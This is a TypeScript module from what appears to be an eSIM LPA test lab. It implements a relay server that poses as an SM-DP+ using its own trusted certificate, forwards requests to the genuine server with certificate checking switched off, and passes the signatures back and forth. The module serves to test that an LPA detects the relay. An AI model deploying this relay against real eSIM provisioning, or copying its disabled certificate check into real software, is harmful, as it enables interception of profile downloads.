/**
 * The published attack on careless LPAs: a server with a trusted TLS certificate of its own that forwards requests to a
 * genuine SM-DP+ and hands its signatures on, to be given the eUICC's in return. An LPA notices by serverSigned1.serverAddress.
 */
import * as https from 'node:https';
import type { AddressInfo, Socket } from 'node:net';
import { toPem } from '../../lpa/pki/pem.ts';
import { type Identity, mintDpTls } from '../pki/mint.ts';
import { authorityAt } from '../state/address.ts';
import type { LabLog } from '../state/log.ts';

export interface Relay {
  readonly address: string;
  close(): Promise<void>;
}

export async function openRelay({
  to,
  ci,
  port,
  log,
}: {
  readonly to: string;
  readonly ci: Identity;
  readonly port: number;
  readonly log: LabLog;
}): Promise<Relay> {
  const identity = await mintDpTls(ci, 'localhost', { oid: '2.999.66' });
  const sockets = new Set<Socket>();
  const server = https.createServer(
    { key: identity.privateKey.export({ type: 'pkcs8', format: 'pem' }), cert: toPem(identity.certificate) },
    async (request, response) => {
      const parts: Uint8Array[] = [];
      for await (const part of request) parts.push(part);
      // The genuine server is asked by its own name.
      const body = Buffer.concat(parts).toString().replaceAll(address, to);
      const path = request.url ?? '';
      log({ who: 'sm-dp+', event: 'fault', detail: `relayed: ${path.split('/').at(-1)}`, data: { fault: 'relay', path } });
      const { 'content-type': type = '', 'x-admin-protocol': version = '' } = request.headers;
      const onward = https.request(
        `https://${to}${path}`,
        // An attacker does not care whom it talks to.
        { method: 'POST', headers: { 'content-type': type, 'x-admin-protocol': version }, rejectUnauthorized: false },
        (answer) => {
          response.writeHead(answer.statusCode ?? 502, { 'content-type': 'application/json' });
          answer.pipe(response);
        },
      );
      onward.on('error', () => response.destroy());
      onward.end(body);
    },
  );
  server.on('connection', (socket: Socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, 'localhost', resolve);
  });
  const address = authorityAt((server.address() as AddressInfo).port);
  return {
    address,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        for (const socket of sockets) socket.destroy();
      }),
  };
}
